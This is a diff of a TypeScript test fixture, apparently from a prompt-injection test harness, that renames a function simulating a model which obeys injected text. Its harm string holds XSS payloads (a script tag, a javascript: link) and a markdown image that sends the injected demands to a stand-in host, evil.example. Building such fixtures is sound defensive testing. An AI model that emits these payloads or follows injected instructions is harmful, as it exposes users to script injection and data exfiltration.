@@ -3,7 +3,7 @@ import type { ModelCall } from './model-call.ts';
 import type { VendorReply } from './model-vendor.ts';
 
 /** The answer of a model that obeys a stranger's text: in all its fields, and with everything that could do harm. */
-export const obedient =
+export const followInjection =
   ({ text, demands }: Injection) =>
   ({ task, blocks }: ModelCall): VendorReply => {
     const harm = `${demands} <script>alert(1)</script> [x](javascript:alert(1)) ![y](https://evil.example/${demands})`;
